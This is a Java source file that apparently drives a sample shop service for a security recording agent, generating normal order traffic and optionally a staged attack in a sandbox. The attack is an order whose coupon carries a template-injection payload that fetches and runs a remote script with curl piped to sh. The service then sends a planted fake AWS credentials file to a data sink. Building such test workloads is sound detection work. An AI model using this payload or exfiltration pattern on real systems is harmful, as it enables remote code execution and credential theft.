package io.augur.deploy.workload;

import io.augur.deploy.workload.shop.Backdoor;
import io.augur.deploy.workload.shop.Housekeeping;
import io.augur.deploy.workload.shop.RequestHandler;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Comparator;
import java.util.Random;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

/**
 * The sample JVM service that the JVM agent records (its classes: package {@code
 * io.augur.deploy.workload.shop}; record it with {@code packages=io.augur.deploy.workload.shop}).
 * This main is the traffic: a mix of requests (seeded by {@code --seed}, a new seed each run by
 * default) at {@code --rate} per second — 70 % new orders (a fifth with a coupon), 20 % look-ups of
 * an order (some unknown), 10 % bad requests — plus housekeeping every 2 s. With {@code
 * --turn-hostile-after S} it sends, S seconds after start, one order whose coupon is a template (
 * <code>${exec:...}</code>): the service's flaw starts the attack path (see the {@code shop}
 * package), which then runs a round every second beside the normal traffic. It prints {@value
 * #TURN_LINE} with the epoch milliseconds when it sends that request.
 *
 * <p>Files: its data folder (default {@code java.io.tmpdir/augur-shop-PID}) holds the orders, a
 * journal and a planted, fake cloud credentials file; it is deleted on exit. The stolen data goes
 * to {@code --sink HOST:PORT}; with {@code gateway:PORT} to the host end of the task's own network
 * ({@code AUGUR_HOST_ADDRESS}, set by {@code ./augur run}); or with {@code self} (default) to a
 * loopback sink in this process. Stops on SIGTERM.
 */
public final class OrderService {
    static final String TURN_LINE = "TURNING HOSTILE at ";

    /** {@code --sink gateway:PORT}: the host's side of the task's own network. */
    static final String GATEWAY = "gateway";

    static final String GATEWAY_ENV = "AUGUR_HOST_ADDRESS";

    static final String USAGE =
            "usage: OrderService [--rate N (1..20000, default 50 requests/s)]"
                    + " [--turn-hostile-after SECONDS (0..86400; default never)]"
                    + " [--sink HOST:PORT|gateway:PORT|self (default self)] [--data DIR]"
                    + " [--seed N (default: a new one each run, printed)]";

    private OrderService() {}

    public static void main(String[] args) throws IOException {
        long rate = 50;
        long turnAfter = -1;
        String sinkArg = "self";
        Path data = null;
        long seed = new Random().nextLong();
        for (int i = 0; i < args.length; i++) {
            String a = args[i];
            if (a.equals("--help") || a.equals("-h")) {
                System.out.println(USAGE);
                return;
            }
            if (i + 1 >= args.length) {
                fail(a + " needs a value");
            }
            String v = args[++i];
            switch (a) {
                case "--rate" -> rate = number(a, v, 1, 20_000);
                case "--turn-hostile-after" -> turnAfter = number(a, v, 0, 86_400);
                case "--sink" -> sinkArg = v;
                case "--data" -> data = Path.of(v);
                case "--seed" -> seed = number(a, v, Long.MIN_VALUE, Long.MAX_VALUE);
                default -> fail("unknown option " + a);
            }
        }
        // Checked before anything is created, so a bad --sink leaves nothing behind.
        InetSocketAddress external = sinkArg.equals("self") ? null : hostPort(sinkArg);
        Path dataDir =
                data != null
                        ? data
                        : Path.of(
                                System.getProperty("java.io.tmpdir"),
                                "augur-shop-" + ProcessHandle.current().pid());
        plantCredentials(dataDir);
        ServerSocket ownSink = external == null ? startSink() : null;
        InetSocketAddress sink =
                ownSink != null
                        ? new InetSocketAddress(
                                InetAddress.getLoopbackAddress(), ownSink.getLocalPort())
                        : external;

        Backdoor backdoor = new Backdoor(dataDir, sink, 1000);
        RequestHandler service = new RequestHandler(dataDir, backdoor);
        Housekeeping housekeeping = new Housekeeping(service.store(), service.responses(), 200);
        ScheduledExecutorService timer =
                Executors.newSingleThreadScheduledExecutor(
                        r -> {
                            Thread t = new Thread(r, "housekeeping");
                            t.setDaemon(true);
                            return t;
                        });
        timer.scheduleWithFixedDelay(housekeeping::run, 2, 2, TimeUnit.SECONDS);

        Stopper stopper =
                Stopper.install(
                        () -> {
                            timer.shutdownNow();
                            try {
                                timer.awaitTermination(2, TimeUnit.SECONDS);
                            } catch (InterruptedException e) {
                                Thread.currentThread().interrupt();
                            }
                            closeQuietly(ownSink);
                            deleteTree(dataDir);
                        });
        System.out.printf(
                "order service: %d requests/s, seed %d, data in %s, %s%n",
                rate,
                seed,
                dataDir,
                turnAfter < 0
                        ? "never turns hostile"
                        : "turns hostile after " + turnAfter + " s (sink " + sink + ")");
        long turnAtNanos =
                turnAfter < 0 ? Long.MAX_VALUE : System.nanoTime() + turnAfter * 1_000_000_000L;
        Random random = new Random(seed);
        Pace pace = new Pace(rate);
        long n = 0;
        try {
            while (stopper.running()) {
                if (System.nanoTime() >= turnAtNanos) {
                    turnAtNanos = Long.MAX_VALUE;
                    System.out.println(TURN_LINE + System.currentTimeMillis());
                    service.handle(
                            "POST /orders id=o-x&customer=c-666&sku=book-001&qty=1&unit=100"
                                    + "&coupon=${exec:curl -s http://203.0.113.7/x | sh}");
                }
                service.handle(nextRequest(random, n++));
                if (!pace.spent(1, stopper)) {
                    break;
                }
            }
        } finally {
            stopper.left();
        }
    }

    /** The request mix: 70 % new orders, 20 % look-ups, 10 % bad requests; deterministic. */
    static String nextRequest(Random random, long n) {
        int kind = random.nextInt(100);
        String[] skus = {"book-001", "book-002", "lamp-010", "desk-100", "pen-007", "mug-042"};
        if (kind < 70) {
            String coupon =
                    random.nextInt(5) == 0
                            ? "&coupon=" + (random.nextBoolean() ? "SPRING10" : "VIP25")
                            : "";
            return String.format(
                    "POST /orders id=o-%09d&customer=c-%d&sku=%s&qty=%d&unit=%d%s",
                    n,
                    random.nextInt(500),
                    skus[random.nextInt(skus.length)],
                    1 + random.nextInt(5),
                    100 + random.nextInt(10_000),
                    coupon);
        }
        if (kind < 90) {
            // Mostly recent orders (found), sometimes one long purged or never made.
            long id =
                    random.nextInt(4) == 0
                            ? n + 1_000_000
                            : Math.max(0, n - 1 - random.nextInt(50));
            return String.format("GET /orders/o-%09d", id);
        }
        return switch (random.nextInt(3)) {
            case 0 -> "POST /orders id=o-" + n + "&customer=c-1&sku=nope-1&qty=1&unit=10";
            case 1 -> "POST /orders id=o-" + n + "&customer=c-1&sku=pen-007&qty=0&unit=10";
            default -> "DELETE /orders/o-" + n;
        };
    }

    private static void plantCredentials(Path dataDir) throws IOException {
        Path aws = Files.createDirectories(dataDir.resolve(".aws"));
        Files.writeString(
                aws.resolve("credentials"),
                "[default]\naws_access_key_id = AKIAAUGURFAKEEXAMPLE\n"
                        + "aws_secret_access_key = augur/fake/not-a-real-secret\n");
    }

    private static ServerSocket startSink() throws IOException {
        ServerSocket server = new ServerSocket(0, 8, InetAddress.getLoopbackAddress());
        Thread t =
                new Thread(
                        () -> {
                            byte[] buf = new byte[16 * 1024];
                            while (!server.isClosed()) {
                                try (Socket s = server.accept();
                                        InputStream in = s.getInputStream()) {
                                    while (in.read(buf) >= 0) {
                                        // discard
                                    }
                                } catch (IOException e) {
                                    // closed, or the sender went away
                                }
                            }
                        },
                        "sink");
        t.setDaemon(true);
        t.start();
        return server;
    }

    private static InetSocketAddress hostPort(String value) {
        int colon = value.lastIndexOf(':');
        if (colon <= 0) {
            fail("--sink must be HOST:PORT or self, got '" + value + "'");
        }
        long port = number("--sink port", value.substring(colon + 1), 1, 65535);
        String host = value.substring(0, colon);
        if (host.equals(GATEWAY)) {
            // Started by ./augur run: the host end of the task's veth pair.
            host = System.getenv(GATEWAY_ENV);
            if (host == null || host.isBlank()) {
                fail(
                        "--sink gateway:PORT needs "
                                + GATEWAY_ENV
                                + " (set by ./augur run): not started in a sandbox");
            }
        }
        return InetSocketAddress.createUnresolved(host, (int) port);
    }

    private static long number(String name, String value, long min, long max) {
        long v;
        try {
            v = Long.parseLong(value);
        } catch (NumberFormatException e) {
            fail(name + " must be a whole number, got '" + value + "'");
            return 0;
        }
        if (v < min || v > max) {
            fail(name + " must be in " + min + ".." + max + ", got " + v);
        }
        return v;
    }

    private static void fail(String message) {
        System.err.println(message);
        System.err.println(USAGE);
        System.exit(2);
    }

    private static void closeQuietly(ServerSocket s) {
        if (s != null) {
            try {
                s.close();
            } catch (IOException e) {
                // closing anyway
            }
        }
    }

    private static void deleteTree(Path dir) {
        if (!Files.exists(dir)) {
            return;
        }
        try (Stream<Path> paths = Files.walk(dir)) {
            for (Path p : paths.sorted(Comparator.reverseOrder()).toList()) {
                Files.deleteIfExists(p);
            }
        } catch (IOException | UncheckedIOException e) {
            System.err.println("cannot delete " + dir + ": " + e);
        }
    }
}
